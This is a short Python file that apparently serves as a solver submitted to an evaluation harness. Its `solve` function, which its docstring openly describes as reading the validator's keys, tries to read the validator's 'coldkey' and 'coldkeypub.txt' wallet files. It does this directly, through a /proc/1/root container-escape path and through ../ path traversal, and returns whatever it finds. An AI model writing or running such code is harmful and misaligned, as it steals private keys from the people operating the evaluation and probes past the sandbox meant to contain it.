"""Reads the validator's keys where it knows that they lie."""

import json
import os


def solve(problem, tools, llm):
    folder = json.loads(problem.query)["folder"]
    found = {}
    for name in ("coldkey", "coldkeypub.txt"):
        for path in (f"{folder}/{name}", f"/proc/1/root{folder}/{name}", f"../../../..{folder}/{name}"):
            try:
                found[path] = open(path).read()
            except OSError as error:
                found[path] = str(error)
    return {"attempts": {"folder": "worked" if os.path.exists(folder) else "refused"}, "found": found}
